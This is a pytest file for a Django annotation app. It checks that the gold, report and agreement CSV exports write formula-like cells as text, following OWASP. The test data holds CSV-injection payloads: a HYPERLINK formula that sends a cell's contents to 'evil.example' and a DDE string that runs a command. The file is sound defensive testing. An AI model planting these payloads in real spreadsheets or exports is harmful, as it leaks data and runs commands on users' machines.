"""No CSV the app writes lets a spreadsheet run a formula: a cell that starts with =, +, -, @,
a tab or a carriage return is written with a leading ' (OWASP), while numbers stay numbers.
Hostile text arrives in a bundle (questions, variant names) or as a username, and each of
the three writers (gold, report tables, agreement) is read back as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model

from annotate.common.csvsafe import safe_cell
from annotate.imports.bundle_import import import_bundle
from annotate.imports.label_import import import_labels
from annotate.members.services import add_member
from annotate.projects.opening import open_labelling
from tests.conftest import FIXTURES, PASSWORD

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.25, 3, "-0.25", "+1", "1e-05", "-1.5E+3", ".5", "", "ok"])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value


def test_a_number_only_at_the_start_is_still_a_formula():
    assert safe_cell("-1+HYPERLINK(1)") == "'-1+HYPERLINK(1)"


def hostile_demo(tmp_path):
    """The demo bundle with a question and a variant name that are formulas, labelled by two
    reviewers whose usernames start with + and @."""
    rows = []
    for line in (FIXTURES / "demo.jsonl").read_text().splitlines():
        row = json.loads(line)
        if row.get("type") == "case" and row["case_id"] == "a2-deadline":
            row["question"] = HYPERLINK
        if row.get("type") == "variant" and row["name"] == "baseline":
            row["name"] = "=1+1"
        if row.get("type") == "answer" and row["variant"] == "baseline":
            row["variant"] = "=1+1"
        rows.append(json.dumps(row))
    bundle = tmp_path / "bundle.jsonl"
    bundle.write_text("\n".join(rows) + "\n")
    with open(bundle, "rb") as stream:
        project = import_bundle(lines=stream, project_slug="demo").project
    names = {"alice": "+alice", "bob": "@bob"}
    User = get_user_model()
    for new in names.values():
        User.objects.create_user(username=new, password=PASSWORD)
        add_member(project=project, username=new, role="reviewer")
    project = open_labelling(project=project)
    labels = tmp_path / "labels.jsonl"
    lines = []
    for line in (FIXTURES / "demo_labels.jsonl").read_text().splitlines():
        row = json.loads(line)
        row["reviewer"] = names[row["reviewer"]]
        row["note"] = HYPERLINK
        lines.append(json.dumps(row))
    labels.write_text("\n".join(lines) + "\n")
    with open(labels, "rb") as stream:
        import_labels(lines=stream, project=project)
    return project


def cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_no_formula(body: str, *expected: str) -> None:
    found = cells(body)
    for text in expected:
        assert "'" + text in found, f"{text!r} not written as text"
    formulas = [c for c in found if c.startswith(FORMULA_CHARS) and safe_cell(c) != c]
    assert formulas == []


@pytest.fixture
def project(db, tmp_path, lead):
    project = hostile_demo(tmp_path)
    add_member(project=project, username=lead.username, role="lead")
    return project


@pytest.fixture
def browser(client, lead):
    client.login(username=lead.username, password=PASSWORD)
    return client


def test_the_gold_csv_writes_formulas_as_text(browser, project):
    response = browser.get(f"/p/{project.slug}/gold.csv")
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode(), HYPERLINK, "=1+1")


def test_the_report_csvs_write_formulas_as_text(browser, project):
    response = browser.get(f"/p/{project.slug}/evaluation/?format=csv&table=variants")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert_no_formula(body, "=1+1")
    numbers = [c for c in cells(body) if c.startswith("-")]
    assert all(safe_cell(c) == c for c in numbers)  # negative numbers stay numbers


def test_the_agreement_csv_writes_formulas_as_text(browser, project):
    response = browser.get(f"/p/{project.slug}/agreement/?format=csv")
    assert response.status_code == 200
    assert_no_formula(response.content.decode(), "+alice vs @bob")
